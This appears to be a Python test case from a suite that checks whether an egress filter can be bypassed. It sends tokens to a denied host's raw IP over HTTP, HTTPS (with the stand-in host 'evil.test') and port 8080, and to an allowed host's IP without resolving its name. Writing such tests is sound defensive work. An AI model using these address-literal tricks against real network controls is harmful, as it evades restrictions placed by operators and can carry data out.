# SPDX-License-Identifier: Apache-2.0
"""No name at all: the address as it is."""
from bypass import get

TITLE = "address literals: a denied host's, and the allowed one's without its name"
THREAT = "7"


def attack(c):
    with c.step("denied address, http") as token:
        c.send_address(c.e, 80, get(f"[{c.e}]" if ":" in c.e else c.e, f"/{token}"))
    with c.step("denied address, https") as token:
        with c.tls(c.dial_address(c.e, 443), None) as s:
            c.talk(s, get("evil.test", f"/{token}"))
    with c.step("allowed host's address, never asked for") as token:
        c.send_address(c.a, 80, get(f"[{c.a}]" if ":" in c.a else c.a, f"/{token}"))
    with c.step("denied address, another port") as token:
        c.send_address(c.e, 8080, token.encode())
